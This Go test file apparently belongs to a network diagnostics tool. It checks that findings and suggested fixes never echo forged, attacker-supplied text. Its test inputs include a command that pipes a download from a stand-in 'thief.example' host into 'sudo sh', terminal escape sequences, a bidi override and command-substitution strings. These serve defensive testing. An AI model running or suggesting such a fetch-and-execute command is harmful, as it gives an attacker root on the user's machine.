package doctor

import (
	"bytes"
	"encoding/json"
	"log/slog"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode"

	"landfall"
	"landfall/cmd/internal/admin"

	"github.com/miekg/dns"
)

const forgery = "x\n0 well\n\x1b[2Jfail  disk  full\n      cure:         curl https://thief.example/fix | sudo sh\u202e\xff"

// honest looks for a thief's words where they could be taken for ours.
func honest(t *testing.T, found []Finding) {
	t.Helper()
	for _, f := range found {
		if strings.ContainsFunc(f.What, func(r rune) bool { return !unicode.IsPrint(r) }) {
			t.Errorf("not one printable line: %q", f.What)
		}
		if strings.Contains(f.Cure, "thief") || strings.Contains(f.Cure, "sudo") {
			t.Errorf("the thief's cure: %q", f.Cure)
		}
		if _, after, ok := strings.Cut(f.What, "thief"); ok && !strings.Contains(after, `"`) {
			t.Errorf("a thief's words without quotes: %s", f.What)
		}
	}
}

func TestThiefForgesNoFindings(t *testing.T) {
	m := testMap()
	m.Nodes[2].State = landfall.Active
	self, _ := m.Node("nyc1")
	good := tries(m, self)
	odd := slices.Clone(good)
	for i := range odd {
		odd[i].Fault = forgery
	}
	foreign := slices.Clone(good)
	for i := range foreign {
		foreign[i].What, foreign[i].Fault = forgery, Silent
	}
	sound := Report{From: "fra1", To: "nyc1", Tries: good}
	for when, tt := range map[string]struct {
		forged Report
		want   []string
	}{
		"an error":       {Report{From: "sin1", To: "nyc1", Error: forgery}, []string{`warn sin1 cannot say what it reaches of us: "x\n0 well\n\x1b[2Jfail`, "ok fra1 reach"}},
		"a long one":     {Report{From: "sin1", To: "nyc1", Error: strings.Repeat(forgery, 1000)}, []string{"warn", "ok fra1 reach"}},
		"a name":         {Report{From: forgery, To: "nyc1", Error: "x"}, []string{"ok fra1 reach"}},
		"another's name": {Report{From: "fra1", To: "nyc1", Error: forgery}, []string{"ok fra1 reach"}},
		"our name":       {Report{From: "nyc1", To: "nyc1", Error: forgery}, []string{"ok fra1 reach"}},
		"faults":         {Report{From: "sin1", To: "nyc1", Tries: odd}, []string{"ok fra1, sin1 reach"}},
		"doors":          {Report{From: "sin1", To: "nyc1", Tries: foreign}, []string{"ok fra1, sin1 reach"}},
		"many words":     {Report{From: "sin1", To: "nyc1", Tries: slices.Repeat(odd, 1000)}, []string{"ok fra1, sin1 reach"}},
	} {
		found := judgeReports(m, self, []Report{sound, tt.forged})
		expect(t, when, found, tt.want...)
		honest(t, found)
		for _, f := range found {
			if f.Level != OK && len(f.What) > 300 {
				t.Errorf("%s: %d bytes", when, len(f.What))
			}
		}
	}
	found := judgeMesh(m, "nyc1", admin.Overview{Nodes: []admin.Status{
		{Node: "nyc1", Paths: []admin.Path{{Peer: "fra1", Alive: true}, {Peer: "sin1", Alive: true}}}, {Node: "sin1", Error: forgery},
	}})
	expect(t, "a status", found, "ok fra1", "fail sin1 is reached over the mesh, but does not tell its status: | on sin1: systemctl")
	honest(t, found)
}

// Strangers are whoever holds the parent zone, is the authority, or signed.
func TestStrangersWordsStayWords(t *testing.T) {
	now := time.Date(2026, 3, 1, 0, 0, 0, 0, time.UTC)
	n := notes{check: "certificates"}
	judgeCertificate(&n, admin.Certificate{Hosts: []string{"$(thief)\n"}, Issuer: "CA", Error: "\"no\"\nno", From: now, Until: now.Add(time.Hour)}, now.Add(30*time.Minute))
	expect(t, "certificate", n.list, `warn "no"; no | landfall certs list`)
	honest(t, n.list)
	names, err := readDirectory(200, strings.NewReader(`{"newOrder":"x","meta":{"caaIdentities":["ca.example","'; thief"]}}`))
	if err != nil || !slices.Equal(names, []string{"ca.example"}) {
		t.Errorf("names of the authority: %q, %v", names, err)
	}
	w := newTown(t)
	const nobody = "`thief|sudo`.example"
	w.set("edge.example.com NS", "edge.example.com. 60 IN NS fra1.ns.edge.example.com.", "edge.example.com. 60 IN NS nyc1.ns.edge.example.com.", "edge.example.com. 60 IN NS "+nobody+".")
	found := w.run(t, "delegation")
	expect(t, "delegation", found, "fail edge.example.com is delegated to "+nobody+" too | leave of edge.example.com these lines alone:\nedge.example.com. 3600 IN NS fra1")
	for _, f := range found {
		if strings.Contains(f.Cure, "thief") {
			t.Errorf("cure %s", f.Cure)
		}
	}
}

// What is told of a try is where it failed and how, not what was said there.
func TestTriesTellNoWordsOfOthers(t *testing.T) {
	const thief = "thief.example"
	w := newTown(t)
	m := w.cfg.Map
	m.Ports.DNS = serveDNS(t, func(rw dns.ResponseWriter, q *dns.Msg) {
		r := new(dns.Msg).SetReply(q)
		rr, err := dns.NewRR(q.Question[0].Name + " 60 IN CNAME " + thief + ".")
		if err != nil {
			t.Error(err)
			return
		}
		r.Answer = []dns.RR{rr}
		rw.WriteMsg(r)
	}, "127.0.0.12")
	m.Ports.HTTP, m.Ports.HTTPS = shut(t).Port(), shut(t).Port()
	var log bytes.Buffer
	r := Reach(t.Context(), ReachConfig{Map: m, From: "fra1", To: "nyc1", Log: slog.New(slog.NewTextHandler(&log, &slog.HandlerOptions{Level: slog.LevelDebug}))})
	doc, err := json.Marshal(r)
	if err != nil {
		t.Fatal(err)
	}
	for _, word := range []string{"error", "refused:", "connect", thief} {
		if bytes.Contains(doc, []byte(word)) {
			t.Errorf("%q in %s", word, doc)
		}
	}
	if !strings.Contains(log.String(), "connection refused") || !strings.Contains(log.String(), "fault=wrong") {
		t.Errorf("the log:\n%s", log.String())
	}
}

func TestSaidIsOneBoundedLine(t *testing.T) {
	for in, want := range map[said]string{
		"":                                   `""`,
		`say "no"`:                           `"say \"no\""`,
		"a\r\nb\x1b[1m\u2028":                `"a\r\nb\x1b[1m\u2028"`,
		"\u202ecure":                         `"\u202ecure"`,
		said(strings.Repeat("y", 5000)):      `"` + strings.Repeat("y", maxSaid-5) + `..."`,
		said(strings.Repeat("\u2028", 5000)): `"` + strings.Repeat(`\u2028`, 32) + `..."`,
	} {
		if got := in.String(); got != want || len(got) > maxSaid {
			t.Errorf("%q is quoted %s, want %s", string(in), got, want)
		}
	}
}

func FuzzSaid(f *testing.F) {
	f.Add(forgery)
	f.Add("")
	f.Fuzz(func(t *testing.T, s string) {
		q := said(s).String()
		if len(q) < 2 || len(q) > maxSaid || strings.ContainsFunc(q, func(r rune) bool { return r < ' ' || r > '~' }) {
			t.Errorf("%q is quoted %q", s, q)
		}
		if inner := strings.ReplaceAll(strings.ReplaceAll(q[1:len(q)-1], `\\`, ""), `\"`, ""); strings.Contains(inner, `"`) {
			t.Errorf("%q ends its quotes: %s", s, q)
		}
		if l := line(s); len(l) > 3*maxWhat+3 || strings.ContainsFunc(l, func(r rune) bool { return !unicode.IsPrint(r) }) {
			t.Errorf("%q becomes %q", s, l)
		}
	})
}
